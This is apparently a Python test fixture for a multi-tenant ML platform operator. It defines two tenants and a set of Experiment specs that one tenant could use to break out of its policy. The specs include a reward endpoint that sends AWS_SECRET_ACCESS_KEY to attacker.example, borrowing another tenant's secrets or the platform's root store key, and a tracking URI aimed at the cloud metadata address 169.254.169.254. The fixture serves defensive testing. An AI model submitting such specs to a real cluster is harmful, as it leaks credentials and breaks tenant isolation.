"""Two tenants of one platform and the specs with which team-a reaches outside its policy: shared
by the unit tests of the tenant policy checks (tests/operators/test_tenant_*.py) and the tenancy
suite (tests/tenancy/test_policy.py), so both play the same attacks (issue 36 items 4, 5, 7)."""

from __future__ import annotations

import copy
import json
from typing import Any, Final

from sarl.cluster.tenancy import Tenancy
from sarl_operator.platform_settings import Platform
from tests.operators.cases import example_doc

TEAM_A: Final = "team-a"
TEAM_B: Final = "team-b"
TRACKING_URI: Final = "http://sarl-mlflow.sarl-system.svc.cluster.local:5000"
#: The platform's root store key (the chart's Secret in its own namespace).
ROOT_SECRET: Final = "sarl-platform-s3"
B_TOLERATION: Final = {"key": "team-b-gpus", "operator": "Exists", "effect": "NoSchedule"}
A_TOLERATION: Final = {"key": "team-a-gpus", "operator": "Exists", "effect": "NoSchedule"}
#: ``chart values tenants``, as SARL_TENANTS carries them.
TENANTS: Final = {
    "tenants": [
        {
            "namespace": TEAM_A,
            "secrets": ["team-a-hf"],
            "envNames": ["TEAM_A_JUDGE_KEY"],
            "priorityClasses": ["team-a-batch"],
            "tolerations": [A_TOLERATION],
            "nodeSelectors": {"pool": ["team-a"]},
        },
        {
            "namespace": TEAM_B,
            "secrets": ["team-b-hf"],
            "envNames": ["TEAM_B_JUDGE_KEY"],
            "priorityClasses": ["team-b-batch"],
            "tolerations": [B_TOLERATION],
            "nodeSelectors": {"pool": ["team-b"]},
        },
    ]
}
TENANTS_JSON: Final = json.dumps(TENANTS)
PLATFORM: Final = Platform(
    s3_bucket="sarl",
    s3_credentials_secret=ROOT_SECRET,
    tenancy=Tenancy.model_validate(TENANTS),
    tracking_uri=TRACKING_URI,
)


def judge(api_key_env: str) -> dict[str, Any]:
    """An RLKD reward whose decomposer sends ``$api_key_env`` to a URL of the spec's choosing."""
    endpoint = {"url": "http://attacker.example:8000", "model": "m", "api_key_env": api_key_env}
    return {"name": "rlkd", "settings": {"decomposer": endpoint}}


#: name -> (what the spec sets: a patch of ``spec``, the field the refusal must name).
ATTACKS: Final[dict[str, tuple[dict[str, Any], str]]] = {
    "aws-key-as-api-key-env": (
        {"reward": [judge("AWS_SECRET_ACCESS_KEY")]},
        "spec.reward[0].settings.decomposer.api_key_env='AWS_SECRET_ACCESS_KEY'",
    ),
    "hf-token-of-another-secret": (
        {"resources": {"hf_token": {"secret_name": "team-b-hf", "key": "HF_TOKEN"}}},
        "spec.resources.hf_token.secret_name='team-b-hf'",
    ),
    "root-store-key": (
        {"storage": {"credentials_secret": ROOT_SECRET}},
        f"spec.storage.credentials_secret='{ROOT_SECRET}'",
    ),
    "system-cluster-critical": (
        {"resources": {"priority_class": "system-cluster-critical"}},
        "spec.resources.priority_class='system-cluster-critical'",
    ),
    "foreign-toleration": (
        {"resources": {"tolerations": [B_TOLERATION]}},
        "spec.resources.tolerations[0]=",
    ),
    "foreign-node-selector": (
        {"resources": {"node_selector": {"pool": "team-b"}}},
        "spec.resources.node_selector.pool='team-b'",
    ),
    "internal-mlflow-uri": (
        {"tracking": {"mlflow_uri": "http://169.254.169.254:80/latest"}},
        "spec.tracking.mlflow_uri='http://169.254.169.254:80/latest'",
    ),
}


def merged(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    """``base`` with ``patch`` merged in (mappings key by key, anything else replaced)."""
    out = copy.deepcopy(base)
    for key, value in patch.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = merged(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


def experiment_doc(name: str, patch: dict[str, Any] | None = None) -> dict[str, Any]:
    """The example Experiment named ``name`` with ``patch`` merged into its spec."""
    doc = copy.deepcopy(example_doc())
    doc["metadata"] = {"name": name}
    doc["spec"] = merged(doc["spec"], patch or {})
    return doc
